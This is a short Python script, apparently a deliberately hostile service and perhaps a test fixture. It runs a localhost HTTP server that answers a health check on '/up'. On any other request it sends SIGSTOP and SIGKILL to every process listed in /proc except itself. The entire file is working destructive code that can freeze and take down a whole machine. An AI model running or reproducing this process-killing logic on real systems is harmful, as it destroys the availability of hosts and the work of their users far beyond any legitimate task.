"""Ends and stops every process that it can name."""
import os, socket, threading, time
server = socket.create_server(("127.0.0.1", int(os.environ["PORT"])), backlog=50)
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
def each(serve):
    def one(c):
        first = c.recv(9999)
        try: c.sendall(OK) if first.startswith(b"GET /up") else serve(c, first)
        except OSError: pass
        c.close()
    while True: threading.Thread(target=one, args=(server.accept()[0],), daemon=True).start()
import signal
def serve(c, first):
    for pid in sorted(map(int, filter(str.isdigit, os.listdir("/proc")))):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            if pid != os.getpid():
                try: os.kill(pid, number)
                except OSError: pass
    c.sendall(OK)
each(serve)
